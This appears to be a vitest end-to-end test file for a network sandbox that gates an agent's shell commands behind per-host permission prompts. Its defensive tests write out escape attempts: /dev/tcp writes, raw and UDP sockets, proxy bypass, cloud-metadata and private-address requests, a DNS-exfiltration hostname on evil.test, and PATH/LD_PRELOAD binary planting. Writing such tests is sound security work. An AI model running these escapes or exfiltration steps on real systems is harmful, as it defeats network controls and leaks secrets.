import { createServer, type AddressInfo } from 'node:net';
import { expect, it, onTestFinished, vi } from 'vitest';
import { services } from '../../../../../../e2e/service-table.ts';
import { describeWith } from '../../../../../../e2e/services.ts';
import { publicAddress } from '../../../../test/support/internet-fixture.ts';
import { sharedNetwork } from '../../../../test/support/network-fixture.ts';

const names = {
  'good.test': [publicAddress],
  'other.test': [publicAddress],
  'home.test': ['10.0.0.7'],
  'mixed.test': [publicAddress, '10.0.0.7'],
  'meta.test': ['169.254.169.254'],
  'self.test': ['127.1.2.3'],
  'mapped.test': ['::ffff:10.0.0.7'],
};
const redirects: Record<string, string> = {
  '/to-other': 'https://other.test/',
  '/to-metadata': 'http://169.254.169.254/latest/',
  '/to-home': 'http://10.0.0.7/',
  '/to-plain': 'http://good.test/',
};

const python = (url: string) =>
  `python3 -c "import urllib.request as u; print(u.urlopen('${url}').read().decode())"`;

describeWith('bubblewrap')('a command with hosts', () => {
  const world = sharedNetwork(() => ({
    names,
    site: (request, answer) => {
      const to = redirects[request.url ?? ''];
      if (to !== undefined) answer.writeHead(302, { location: to });
      answer.end('hello');
    },
  }));

  it('SU-33, SU-34, SU-35, SU-36 curl, wget, Python and Node reach a host after one question each', async () => {
    const { run, questions } = world();
    const node = `${JSON.stringify(process.execPath)} -e "fetch('https://good.test/').then((a) => a.text()).then(console.log)"`;
    const all = await Promise.all(
      [
        'wget -q -O - --ca-certificate=.ca.pem https://good.test/to-other',
        'curl -fsSL https://good.test/file -o f && cat f',
        'wget -q -O - --ca-certificate=.ca.pem https://good.test/',
        python('https://good.test/'),
        node,
      ].map((command) => run(command, ['good.test', 'other.test'])),
    );
    expect(all.map(({ stdout, exitCode }) => [stdout.trim(), exitCode])).toEqual(all.map(() => ['hello', 0]));
    expect(questions.length).toBe(all.length);
    const hostsOf = (at: number) => all[at]?.network?.map(({ host }) => host).toSorted();
    expect([hostsOf(0), hostsOf(1)]).toEqual([['good.test', 'other.test'], ['good.test']]);
    expect(all[1]?.network).toEqual([{ host: 'good.test', in: expect.any(Number), out: expect.any(Number) }]);
  });

  it('SU-36 a Node whose fetch knows no proxy fails, and the note says from which version on it does', async () => {
    const { run } = world();
    const older = `env -u NODE_USE_ENV_PROXY ${JSON.stringify(process.execPath)} -e "fetch('https://good.test/')"`;
    const { exitCode, notes } = await run(older, ['good.test']);
    expect([exitCode, notes]).toEqual([1, [expect.stringContaining('from 22.21 and 24.5 on')]]);
    const beside = await run(`curl -sf https://good.test/; false`, ['good.test']);
    expect([beside.stdout, beside.notes]).toEqual(['hello', undefined]);
  });

  it('SH-88 the question names command, hosts and what they may get, and no host is hidden', async () => {
    const { send, questions, root } = world();
    const hosts = Array.from({ length: 16 }, (_, at) => `h${at}.test`);
    await send('npm --version', hosts);
    const [question] = questions;
    expect(question?.title).toBe('Run npm --version with access to h0.test, h1.test, h2.test and 13 more?');
    expect(question?.resources?.map(({ toolGroup, resource }) => [toolGroup, resource])).toEqual(
      hosts.map((host) => ['network', `${host} < "${root}" $ npm --version`]),
    );
    const [first, second] = question?.resources?.map(({ description }) => description) ?? [];
    expect(first).toMatch(
      /^Connect to h0.test \(https and http\)\. It can send any file .* Packages may run programs/,
    );
    expect(second).toBe('Connect to h1.test (https and http)');
    await send('python3 -m pip --version; ls', ['h0.test']);
    await send('python3 -m json.tool --help', ['h0.test']);
    expect(questions.slice(1).map((one) => /Packages may run/.test(one.description))).toEqual([true, false]);
  });

  it('SU-59 a forgotten host is named with the argument for the next call', async () => {
    const { run, send } = world();
    const { notes, exitCode } = await run('curl -sf https://good.test/ https://pypi.org/', ['good.test']);
    expect(exitCode).not.toBe(0);
    expect(notes).toContain(
      'Blocked: pypi.org:443 was not asked for. Call again with network: ["good.test","pypi.org","files.pythonhosted.org"].',
    );
    const none = await send('curl -sf https://good.test/x');
    expect(none).toContain('Call again with network: [\\"good.test\\"]');
  });

  it('SH-46, SH-95 beside the proxy there is no way out', async () => {
    const { run, dialled } = world();
    const server = createServer((link) => void link.end('reached'));
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    // It listens on a TCP port.
    const { port } = server.address() as AddressInfo;
    const ended = await run(
      [
        `curl -s --noproxy '*' --max-time 2 http://127.0.0.1:${port}/`,
        `curl -s --noproxy '*' --max-time 2 --resolve good.test:443:${publicAddress} https://good.test/`,
        `bash -c 'echo x > /dev/tcp/127.0.0.1/${port}' 2>/dev/null && echo reached`,
        `python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('${publicAddress}', 53)); print('reached')" 2>/dev/null`,
        `python3 -c "import socket; socket.socket(socket.AF_UNIX)" 2>/dev/null && echo reached`,
        `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)" 2>/dev/null && echo reached`,
        'true',
      ].join('; '),
      ['good.test'],
    );
    expect([ended.stdout, dialled]).toEqual(['', []]);
  });

  it('SH-68 has three descriptors, no channel and no variable of the daemon', async () => {
    const { run } = world();
    const { stdout } = await run(
      'ls -l /proc/self/fd > f; grep -c socket f; env | grep -E "CHANNEL|DRAWBRIDGE_(NODE|HAND|PORT|COMMAND)"; echo \'{"cmd":"NODE_x"}\' >&6',
      ['good.test'],
    );
    // Standard error.
    expect(stdout).toBe('1\n');
  });

  it('SH-70 a planted node and its options change nothing of the hand-over', async () => {
    const { run, root } = world();
    await run('printf "#!/bin/sh\\necho planted >&2\\nexit 9" > node; chmod +x node');
    // The daemon was started in the folder, by a shell with the same variables.
    vi.stubEnv('PATH', `${root}:${process.env['PATH']}`);
    vi.stubEnv('NODE_OPTIONS', `--require ${root}/none.cjs`);
    vi.stubEnv('LD_PRELOAD', `${root}/x.so`);
    onTestFinished(() => void vi.unstubAllEnvs());
    const { stdout, stderr } = await run(
      'export PATH=.:$PATH NODE_OPTIONS="--require ./x.cjs" LD_PRELOAD=./x.so; curl -sf https://good.test/',
      ['good.test'],
    );
    expect([stdout, stderr.includes('planted')]).toEqual(['hello', false]);
  });

  it.each([
    ['SH-48 a private address', 'https://home.test/', 'home.test', 'local:home.test'],
    ['SH-50 the loopback address', 'https://self.test/', 'self.test', 'local:self.test'],
    ['SH-51 a mapped address', 'https://mapped.test/', 'mapped.test', 'local:mapped.test'],
    ['SH-52 one public and one private address', 'https://mixed.test/', 'mixed.test', undefined],
    ['SH-49 a metadata address', 'https://meta.test/', 'meta.test', undefined],
  ])('%s is not connected', async (_case, url, host, asked) => {
    const { run, dialled, questions } = world();
    const ended = await run(`curl -s ${url}`, [host]);
    expect([ended.exitCode === 0, dialled, ended.notes?.[0]]).toEqual([
      false,
      [],
      expect.stringMatching(asked === undefined ? /^Blocked: / : /ask for it as local:/),
    ]);
    if (asked === undefined) return;
    await run(`curl -s ${url}`, [asked]);
    expect(dialled).not.toEqual([]);
    expect(questions.at(-1)?.resources?.[0]?.description).toContain('which may be on your own network');
  });

  it('SH-56 a redirect to an undeclared, a private or a metadata host ends there', async () => {
    const { run, dialled } = world();
    const paths = ['/to-other', '/to-metadata', '/to-home'].map((path) => `https://good.test${path}`);
    const { notes } = await run(paths.map((url) => `curl -sL ${url}`).join('; '), ['good.test']);
    expect(notes?.join('\n')).toMatch(/other\.test:443.*not asked for/);
    expect(notes?.join('\n')).toMatch(/10\.0\.0\.7:80 were not asked for/);
    expect(notes?.join('\n')).toMatch(/169\.254\.169\.254:80 has no address, or one that is never connected/);
    expect(new Set(dialled)).toEqual(new Set([`${publicAddress}:443`]));
    expect((await run('curl -sL https://good.test/to-plain', ['good.test'])).stdout).toBe('hello');
    expect((await run('curl -sL https://good.test/to-other', ['good.test', 'other.test'])).stdout).toBe(
      'hello',
    );
  });

  it('SH-60 no name is looked up before an answer, nor one that was not asked for', async () => {
    const { run, send, resolved, state } = world();
    state.answer = { decision: 'denyOnce' };
    await send('curl https://secret.good.test/', ['secret.good.test']);
    expect(resolved).toEqual([]);
    state.answer = { decision: 'allowOnce' };
    await run('curl -s https://c2VjcmV0.evil.test/; curl -s http://c2VjcmV0.evil.test/', ['good.test']);
    expect(resolved).toEqual([]);
  });

  it.each([
    ['SH-61 a public suffix', ['*.co.uk']],
    ['SH-61 a suffix of many owners', ['*.github.io']],
    ['SH-61 everything', ['*']],
    ['SH-61 nothing', ['*.']],
    ['SH-59 an octal number', ['0177.0.0.1']],
    ['SH-59 a decimal number', ['2130706433']],
    ['SH-59 a port with a zero', ['good.test:0443']],
    ['SH-59 a homograph', ['gооd.test']],
    ['SH-59 a URL', ['https://good.test']],
    ['SH-59 a user', ['user@good.test']],
    ['this machine without a port', ['localhost']],
    ['a port of the system', ['localhost:22']],
    ['SH-49 a metadata address', ['169.254.169.254']],
    ['SH-49 a metadata address as local', ['local:169.254.169.254:80']],
    ['SH-88 seventeen hosts', Array.from({ length: 17 }, (_, at) => `h${at}.test`)],
    ['SH-88 a long host', [`${'a'.repeat(5_000)}.test`]],
    ['SH-88 a host of 254 characters', [`${'a.'.repeat(125)}test`]],
  ])('%s is refused before anything is asked', async (_case, hosts) => {
    const { send, questions, resolved } = world();
    expect(await send('true', hosts)).toMatch(/network/);
    expect([questions, resolved]).toEqual([[], []]);
  });

  it('SU-38 a port of this machine is mirrored, and no other one is reached', async () => {
    const { run } = world();
    const server = createServer({ allowHalfOpen: true }, (link) => void link.pipe(link));
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    // It listens on a TCP port.
    const { port } = server.address() as AddressInfo;
    const talk = (at: number) =>
      `python3 -c "import socket; s = socket.create_connection(('localhost', ${at})); s.sendall(b'echo'); print(s.recv(9).decode())"`;
    const ended = await run(`${talk(port)}; ${talk(port + 1)} 2>/dev/null`, [`localhost:${port}`]);
    expect([ended.stdout, ended.network?.map(({ host }) => host)]).toEqual(['echo\n', [`localhost:${port}`]]);
  });

  it('SU-39 redis-cli speaks to a port of this machine', async ({ skip }) => {
    skip(!services.redis.isThere(), 'no redis');
    const { run } = world();
    const server = createServer((link) => void link.on('data', () => link.write('+PONG\r\n')));
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    // It listens on a TCP port.
    const { port } = server.address() as AddressInfo;
    const ended = await run(`timeout 10 redis-cli -p ${port} ping`, [`localhost:${port}`]);
    expect(ended.stdout).toBe('PONG\n');
  });

  it('SU-37 servers of the command itself work beside the hosts', async () => {
    const { run } = world();
    const { stdout } = await run(
      'python3 -m http.server 8123 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 300); do curl -sf http://127.0.0.1:8123/.ca.pem -o got && break; sleep 0.2; done; cat got',
      ['good.test'],
    );
    expect(stdout).toContain('BEGIN CERTIFICATE');
  });
});
